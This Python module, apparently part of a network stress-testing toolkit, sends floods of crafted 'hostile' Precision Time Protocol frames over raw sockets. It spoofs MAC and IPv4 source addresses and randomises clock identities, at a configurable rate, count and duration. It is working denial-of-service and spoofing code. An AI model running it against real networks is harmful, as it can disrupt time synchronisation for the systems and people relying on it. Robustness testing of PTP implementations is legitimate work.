"""Sends prepared frames from spoofed sources, as fast as asked or as the machine can, bounded in count and time."""

from __future__ import annotations

import ctypes
import errno
import os
import random
import socket
import struct
import time
from collections import Counter
from dataclasses import dataclass

from tools.flood.frames import Hostile

_BATCH = 32
ETHERTYPE_PTP = 0x88F7


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Msghdr(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.POINTER(_Iovec)),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Mmsghdr(ctypes.Structure):
    _fields_ = (("header", _Msghdr), ("length", ctypes.c_uint))


@dataclass(frozen=True)
class Target:
    """Where to: ``address`` None is Ethernet (EtherType 88F7), else IPv4. ``mac``: of the station or the group."""

    mac: bytes
    address: str | None = None
    #: sources are spoofed within this /24
    network: str = "10.0.0."


def _checksum(header: bytes) -> int:
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def encapsulate(hostile: Hostile, target: Target, rng: random.Random) -> tuple[bytes, int]:
    """(Ethernet frame, offset of the PTP header in it)."""
    ethernet = target.mac + b"\x02" + rng.randbytes(5)
    if target.address is None:
        return (ethernet + ETHERTYPE_PTP.to_bytes(2, "big") + hostile.octets).ljust(60, b"\0"), 14
    source = socket.inet_aton(f"{target.network}{rng.randrange(100, 250)}")
    total = 28 + len(hostile.octets)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 1, 17, 0, source, socket.inet_aton(target.address))
    ip = ip[:10] + _checksum(ip).to_bytes(2, "big") + ip[12:]
    # UDP over IPv4 may go without a checksum, so identities can be changed in place
    udp = struct.pack(">HHHH", hostile.port, hostile.port, total - 20, 0)
    return ethernet + b"\x08\x00" + ip + udp + hostile.octets, 42


@dataclass
class Sent:
    frames: int
    seconds: float
    refused: int
    kinds: dict[str, int]

    @property
    def rate(self) -> float:
        return self.frames / self.seconds if self.seconds else 0.0


def send(
    interface: str, hostile: list[Hostile], target: Target, *, rate: float, seconds: float, count: int, unique: bool
) -> Sent:
    """At most ``count`` frames for at most ``seconds``; ``rate`` a second, 0 for no limit.

    ``unique``: every frame carries clock identities that no other carries. Runs in the namespace of ``interface``.
    """
    rng = random.Random(len(hostile))
    built = [encapsulate(h, target, rng) for h in hostile]
    octets = bytearray().join(frame for frame, _ in built)
    memory = (ctypes.c_char * len(octets)).from_buffer(octets)
    base = ctypes.addressof(memory)
    iovecs = (_Iovec * len(built))()
    messages = (_Mmsghdr * len(built))()
    patches: list[tuple[int, ...]] = []
    at = 0
    for index, (frame, start) in enumerate(built):
        iovecs[index].base, iovecs[index].length = base + at, len(frame)
        messages[index].header.iov = ctypes.pointer(iovecs[index])
        messages[index].header.iovlen = 1
        patches.append(tuple(at + start + offset for offset in hostile[index].identities))
        at += len(frame)
    libc = ctypes.CDLL(None, use_errno=True)
    # ctypes would convert a structure of the array each time
    libc.sendmmsg.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int)
    first, size = ctypes.addressof(messages), ctypes.sizeof(_Mmsghdr)
    number = refused = sent = position = 0
    kinds: Counter[int] = Counter()
    pack_into = struct.pack_into
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW | socket.SOCK_CLOEXEC, 0) as sock:
        sock.bind((interface, 0))
        begin = time.monotonic()
        end = begin + seconds
        while sent < count and (now := time.monotonic()) < end:
            ahead = sent / rate - (now - begin) if rate else 0.0
            if ahead > 0:
                time.sleep(min(ahead, 0.002))
                continue
            batch = min(_BATCH, len(built) - position, count - sent)
            if unique:
                for offsets in patches[position : position + batch]:
                    for offset in offsets:
                        number += 1
                        pack_into(">Q", octets, offset, number | 0xFE << 56)
            done = libc.sendmmsg(sock.fileno(), first + position * size, batch, 0)
            if done < 0:
                error = ctypes.get_errno()
                if error not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
                    raise OSError(error, f"sendmmsg on {interface}: {os.strerror(error)}")
                refused += 1
                continue
            kinds[position] += done
            sent += done
            position = (position + done) % len(built)
        passed = time.monotonic() - begin
    by_kind: Counter[str] = Counter()
    for start, total in kinds.items():
        # a batch that began here covered the frames from here on, equally often
        span = min(_BATCH, len(built) - start)
        for index in range(span):
            by_kind[hostile[start + index].kind] += total // span + (index < total % span)
    return Sent(sent, passed, refused, dict(by_kind))
